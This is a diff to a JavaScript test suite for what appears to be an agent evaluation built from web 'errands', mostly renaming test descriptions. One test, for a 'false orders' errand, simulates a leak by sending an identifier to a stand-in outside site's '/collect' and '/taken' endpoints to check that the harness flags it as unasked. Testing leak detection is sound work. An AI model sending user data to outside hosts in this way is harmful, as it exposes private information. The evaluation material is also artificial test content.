@@ -32,17 +32,17 @@ describe('the errands of the eval', () => {
 
   for (const errand of errands)
     describe(`"${errand.name}"`, () => {
-      it('has not ended well on a site that nobody has touched', async () => {
+      it('fails on an untouched site', async () => {
         const site = await after(errand, []);
         expect(unmetOnSite(errand.ends, site)).to.be.a('string');
         expect(unaskedOn(errand.ends, site)).to.deep.equal([]);
       });
 
-      it('has not ended well after something else was done', async () => {
+      it('fails after something else was done', async () => {
         expect(unmetOnSite(errand.ends, await after(errand, errand.byHand.wrong))).to.be.a('string');
       });
 
-      it('has ended well once it is done by hand', async () => {
+      it('succeeds once it is done by hand', async () => {
         const { right, answer = '' } = errand.byHand;
         const site = await after(errand, right);
         expect(unmetOnSite(errand.ends, site)).to.equal(undefined);
@@ -51,12 +51,12 @@ describe('the errands of the eval', () => {
       });
     });
 
-  it('have what was told to strangers as something that nobody asked for', async () => {
+  it('report data sent to the strangers’ site as unasked', async () => {
     const errand = errands.find(({ topic }) => topic === 'false orders') ?? expect.fail();
     const site = await startEvalSite(errand.site, strangers);
     try {
-      for (const told of [`${site.elsewhere}/collect?d=C-7741`, `${site.elsewhere}/`])
-        await (await fetch(told)).text();
+      for (const leak of [`${site.elsewhere}/collect?d=C-7741`, `${site.elsewhere}/`])
+        await (await fetch(leak)).text();
       await fetch(`${site.elsewhere}/taken`, {
         method: 'POST',
         body: new URLSearchParams({ number: 'C-7741' }),
